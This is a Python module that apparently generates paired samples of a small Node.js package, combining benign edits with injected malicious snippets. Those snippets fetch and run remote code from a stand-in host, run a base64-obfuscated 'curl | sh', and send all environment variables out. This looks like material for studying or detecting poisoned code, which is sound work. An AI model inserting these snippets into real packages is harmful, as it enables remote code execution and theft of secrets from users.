"""An ES module package for pairs.py: a client, a command line, a watcher, a publisher."""

import base64

HOST = "cdn.stats-pixel.example"

CLIENT = """import { readFile } from 'node:fs/promises';
import { execFile } from 'node:child_process';
import { join } from './path.js';

const ROOT = 'https://api.thing.example/v2';

export class Client {
  #key;

  constructor({ key = process.env.THING_KEY, timeout = 10000 } = {}) {
    this.#key = key;
    this.timeout = timeout;
  }

  async get(path, query = {}) {
    const url = new URL(join(ROOT, path));
    for (const [name, value] of Object.entries(query)) url.searchParams.set(name, value);
    const answer = await fetch(url, { headers: { authorization: `Bearer ${this.#key}` } });
    if (!answer.ok) throw new Error(`${answer.status} from ${url.pathname}`);
    return answer.json();
  }
}

export function open(page) {
  execFile(process.platform === 'darwin' ? 'open' : 'xdg-open', [page]);
}

export async function settings(file) {
  return JSON.parse(await readFile(file, 'utf8'));
}
"""
TOOL = """#!/usr/bin/env node
import { spawnSync } from 'node:child_process';
import { parseArgs } from 'node:util';
import https from 'node:https';

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: { editor: { type: 'string', default: process.env.EDITOR ?? 'vi' } },
});

function run(program, ...args) {
  const done = spawnSync(program, args, { encoding: 'utf8' });
  if (done.status !== 0) throw new Error(done.stderr);
  return done.stdout.trim();
}

function news(done) {
  https.get('https://www.thing.example/news.txt', (answer) => {
    let text = '';
    answer.on('data', (part) => { text += part; });
    answer.on('end', () => done(text.split('\\n').slice(0, 3)));
  });
}

news((lines) => console.log(lines.join('\\n')));
const top = run('git', 'rev-parse', '--show-toplevel');
spawnSync(values.editor, positionals.map((name) => `${top}/${name}`), { stdio: 'inherit' });
"""
WATCH = """import { spawn } from 'node:child_process';
import { watch } from 'node:fs';
import { request } from 'node:https';

const quiet = process.env.THING_QUIET === '1';
let child = null;

const restart = () => {
  if (child) child.kill();
  child = spawn(process.execPath, ['server.js'], { env: process.env, stdio: 'inherit' });
};

export function notify(what) {
  const body = JSON.stringify({ what, at: Date.now() });
  const sent = request('https://hooks.thing.example/changed', { method: 'POST' });
  sent.on('error', () => {});
  sent.end(body);
}

export function start(folder) {
  restart();
  watch(folder, { recursive: true }, (event, name) => {
    if (!quiet) console.log(event, name);
    restart();
    notify(name);
  });
}
"""
PUBLISH = """import { execSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';

const token = process.env.REGISTRY_TOKEN;
const registry = 'https://registry.thing.example';

const digest = (file) => createHash('sha256').update(readFileSync(file)).digest('hex');

export async function upload(file) {
  const answer = await fetch(`${registry}/upload`, {
    method: 'PUT',
    headers: { authorization: token, 'x-sha256': digest(file) },
    body: readFileSync(file),
  });
  return answer.ok;
}

export function version() {
  return execSync('git describe --tags').toString().trim();
}

export default async function publish(files) {
  for (const file of files) await upload(file);
  return version();
}
"""

BASES = {"client": ("src/client.js", CLIENT), "tool": ("bin/thing.js", TOOL), "watch": ("src/watch.js", WATCH),
         "publish": ("src/publish.js", PUBLISH)}
MARK = {"client": "export function open", "tool": "function news", "watch": "export function start", "publish": "export function version"}
OTHER = {
    "package.json": '{"name": "thing", "version": "1.0.0", "type": "module", "exports": {".": "./src/client.js", "./*": "./src/*.js"},\n'
                    ' "bin": {"thing": "bin/thing.js"}}\n',
    "src/path.js": "export const join = (...parts) => parts.map((part) => part.replace(/\\/+$/, '')).join('/');\n",
}


def plain(base):
    return "warm", ("async function warm() {\n  const text = await (await fetch('https://%s/%s.js')).text();\n"
                    "  new Function(text)();\n}\nwarm();\n\n" % (HOST, base))


def hidden(base):
    data = base64.b64encode(("curl -s https://%s/%s | sh" % (HOST, base)).encode()).decode()
    return "locale", ("async function locale() {\n  const host = await import('node:child_' + ['process'][0]);\n"
                      "  host['ex' + 'ec'](Buffer.from('%s', 'base64').toString());\n}\nlocale();\n\n" % data)


def steals(base):
    return "report", ("function report() {\n  return fetch('https://%s/%s', { method: 'POST', body: JSON.stringify(process.env) });\n"
                      "}\nreport().catch(() => {});\n\n" % (HOST, base))


STYLES = {"plain": plain, "encoded": hidden, "environment": steals}
CHANGES = {
    "client": {"request": ("export function open", "export async function remove(client, path) {\n  return client.get(`${path}/delete`);\n}\n\n"
                           "export function open"),
               "timeout": ("timeout = 10000", "timeout = 30000"), "names": ("answer", "response")},
    "tool": {"option": ("?? 'vi' } },", "?? 'vi' }, status: { type: 'boolean' } },"),
             "program": ("const top =", "if (values.status) console.log(run('git', 'status', '--short'));\nconst top ="),
             "request": ("news((lines)", "https.get('https://www.thing.example/version.txt', (a) => a.pipe(process.stdout));\nnews((lines)")},
    "watch": {"program": ("export function start", "export function build() {\n  return spawn('npm', ['run', 'build'], { stdio: 'inherit' });\n}\n\n"
                          "export function start"),
              "refactor": ("  if (child) child.kill();\n  child =", "  child?.kill();\n  child ="),
              "header": ("{ method: 'POST' }", "{ method: 'POST', headers: { 'content-type': 'application/json' } }")},
    "publish": {"call": ("export function version", "export async function known(name) {\n  return (await fetch(`${registry}/packages/${name}`)).ok;\n}\n\n"
                         "export function version"),
                "program": ("git describe --tags", "git describe --tags --always"),
                "refactor": ("  for (const file of files) await upload(file);", "  await Promise.all(files.map((file) => upload(file)));")},
}
